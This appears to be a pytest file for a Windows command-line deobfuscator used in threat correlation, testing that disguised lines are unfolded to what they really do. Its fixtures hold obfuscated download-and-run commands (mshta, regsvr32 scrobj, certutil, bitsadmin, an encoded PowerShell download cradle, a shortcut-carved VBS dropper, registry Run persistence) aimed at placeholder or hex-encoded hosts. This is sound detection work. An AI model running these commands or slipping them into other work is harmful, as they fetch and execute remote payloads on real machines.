"""Command lines with their disguise taken off, as correlation sees them."""

import base64
import random

import pytest

from sekisho.analyzers.command_line import unfold, unfold_shell

TEMP_VBS = r"%tmp%\YlScZcZKeP.vbs"
LINES = [
    ("cmd /c m^sh^t^a h^tt^p^:/^/0xb907d607/fer/fe3.html", "starts mshta http://0xb907d607/fer/fe3.html", "caret"),
    (r"""cmd /c "m"sh"t"a http://203.0.113.9/a""", "downloads http://203.0.113.9/a", "quote"),
    (r"""m"sh"ta http://203.0.113.9/a""", "downloads http://203.0.113.9/a", "quote"),
    ('cmd /c "set x=mshta http://203.0.113.5/a.hta&&call %x%"', "downloads http://203.0.113.5/a.hta", "set-variable"),
    ('cmd /V:ON/C"set x=ms&&set y=hta http://192.0.2.1/&&!x!!y!"', "downloads http://192.0.2.1/", "set-variable"),
    (
        r"%COMSPEC:~-7,3% /c ,;,start /b \"\" regsvr32 /s /u /i:http://a.example/x.sct scrobj.dll".replace('\\"', '"'),
        "downloads http://a.example/x.sct",
        "environment-substring",
    ),
    (
        r"cmd /c for %a in (http://a.example/1 http://b.example/2) do curl -o %TEMP%\x.dll %a",
        r"downloads http://b.example/2 to %TEMP%\x.dll",
        "for-loop",
    ),
    (
        'cmd /V:ON /C "set unique=nets /ao&&FOR %A IN (0 1 2 3 2 6 2 4 5 6 0 7 1337) DO set final=!final!!unique:~%A,1!'
        '&& IF %A==1337 CALL %final:~-12%"',
        "starts netstat /ano",
        "for-loop",
    ),
    ('cmd /c "set a=XcalX&&call %a:X=%c"', "starts calc", "set-variable"),
    ('wmic process call create "cmd /c mshta 0xc12a24f5/cc.html"', "downloads 0xc12a24f5/cc.html", ""),
    (
        r"certutil -urlcache -split -f http://a.example/p.txt C:\Users\Public\p.exe",
        r"downloads http://a.example/p.txt to C:\Users\Public\p.exe",
        "",
    ),
    (
        r"bitsadmin /transfer j /download /priority high http://a.example/x %TEMP%\x.exe",
        r"writes %TEMP%\x.exe",
        "",
    ),
    ("cmd /c echo mshta http://a.example/ | cmd", "downloads http://a.example/", ""),
    (
        'for /f "tokens=2 delims=," %i in ("a,mshta,c") do %i http://a.example/q',
        "downloads http://a.example/q",
        "for-loop",
    ),
    ("for /f %i in ('echo mshta') do %i http://a.example/q", "downloads http://a.example/q", "for-loop"),
    ('schtasks /create /tn x /tr "cmd /c calc" /sc once', "starts calc", ""),
    ("f^o^r %a i^n (calc) d^o %a", "starts calc", "caret"),
    (r'start /min "" "%tmp%\a.exe"', r'starts "%tmp%\a.exe"', ""),
    (r"cmd /c copy /y a.txt C:\b.txt", r"writes C:\b.txt", ""),
    (r"regsvr32 /s C:\x.ocx > nul", r"starts regsvr32 /s C:\x.ocx", ""),
    ("msiexec /q /i http://a.example/x.msi", "downloads http://a.example/x.msi", ""),
    (r"reg add HKCU\Software\X /v Run /d calc", r"writes HKCU\Software\X\Run", ""),
    (r"forfiles /p C:\ /m x /c \"cmd /c calc\"".replace('\\"', '"'), "starts calc", ""),
    ("$a='http://a.example/';iwr $a -OutFile C:\\x", "downloads http://a.example/ to C:\\x", ""),
    ('schtasks /create /tn x /tr "regsvr32 -s \\"C:\\a b.dll\\"" /sc once', 'starts regsvr32 -s "C:\\a b.dll"', ""),
    ("conhost --headless cmd /c calc", "starts calc", ""),
    ("cmd /c calc ^& notepad", "starts notepad", ""),
    ("if 1==1 (calc) else (notepad)", "starts notepad", ""),
]


@pytest.mark.parametrize(("line", "call", "trick"), LINES)
def test_what_it_does_in_the_end(line, call, trick):
    unfolded = unfold(line)
    assert call in unfolded.calls
    assert not trick or trick in unfolded.tricks


def test_the_hex_address_behind_carets():
    unfolded = unfold("cmd /c m^sh^t^a h^tt^p^:/^/0xb907d607/fer/fe3.html")
    (url,) = unfolded.urls
    assert (url.canonical, url.ip) == ("http://185.7.214.7/fer/fe3.html", "185.7.214.7")
    assert url.hidden_by == "caret, hex-ip"
    assert unfolded.text == "cmd /c mshta http://0xb907d607/fer/fe3.html"


@pytest.mark.parametrize("start", ["", r"cmd.exe ..\..\Windows\system32\cmd.exe "])
def test_a_shortcut_that_cuts_a_script_out_of_itself(start):
    line = rf'/v:on /c findstr "glKmfOKnQLYKnNs.*" "form 04.25.2022.lnk" > "{TEMP_VBS}" & "{TEMP_VBS}"'
    unfolded = unfold(start + line)
    assert unfolded.calls == (f"writes {TEMP_VBS}", f'starts "{TEMP_VBS}"')


def test_encoded_powershell_is_read_too():
    script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/s')"
    line = "powershell -nop -w hidden -EnC " + base64.b64encode(script.encode("utf-16-le")).decode()
    unfolded = unfold(line)
    assert "downloads http://a.example/s" in unfolded.calls
    assert "base64" in unfolded.tricks
    assert unfolded.urls[0].hidden_by == "base64"


def test_what_powershell_gets_from_a_shortcut_is_not_cut_at_its_pipes():
    unfolded = unfold(
        "powershell.exe -command Out-String -InputObject 'x' | Out-Null; iwr http://a.example/ -OutFile C:\\a.exe"
    )
    assert "downloads http://a.example/ to C:\\a.exe" in unfolded.calls


def test_echoed_files_become_layers():
    unfolded = unfold_shell(r"(echo Dim a & echo a = 1) > C:\a.vbs & cscript C:\a.vbs")
    assert unfolded.layers[0].name == r"C:\a.vbs"
    assert unfolded.layers[0].data.split() == b"Dim a a = 1".split()
    assert unfolded.layers[0].kind == "vbscript"


def test_a_file_echoed_and_decoded_is_known():
    unfolded = unfold_shell("echo TXNnQm94IDE= > a.b64 & certutil -decode a.b64 out.vbs")
    assert [layer.data for layer in unfolded.layers if layer.name == "out.vbs"] == [b"MsgBox 1"]


@pytest.mark.parametrize(
    "line",
    [
        "ipconfig /all",
        r'"C:\Program Files\x.exe" -a "b c" | find "x" > out.txt',
        r"C:\Windows\System32\rundll32.exe C:\ProgramData\a.dll,Run",
        "dir && type a.txt || echo no",
        r"C:\Program Files\Common Files\x.exe --type=renderer --lang=ja",
        "git log --format=%H",
    ],
)
def test_plain_lines_stay_as_they_are(line):
    unfolded = unfold(line)
    assert (unfolded.text, unfolded.tricks) == (line, ())
    assert unfold(unfolded.text).text == unfolded.text


def test_doubling_variables_end_at_a_limit():
    line = "set a=" + "x" * 500 + "&" + "set a=!a!!a!!a!!a!&" * 400 + "call %a%"
    assert len(unfold("cmd /v:on /c " + line).text) < 20_000_000


def test_nothing_is_raised_on_any_line():
    rng = random.Random(5)
    pieces = [
        "%a:~",
        "!x!",
        "for %a in (",
        ") do ",
        "cmd /c ",
        '"',
        "^",
        "(",
        ")",
        "&",
        "|",
        ">",
        "set x=",
        "call ",
        "if ",
        "1==2 ",
    ]
    for _ in range(500):
        line = list(rng.choice(LINES)[0])
        for _ in range(rng.randint(1, 6)):
            at = rng.randint(0, len(line))
            line[at : at + rng.randint(0, 4)] = (
                rng.choice(pieces) if rng.random() < 0.7 else rng.choice("\0\ud800あ%!~=,;")
            )
        unfold("".join(line))
        unfold_shell("\n".join(["".join(line)] * 3), batch=True)
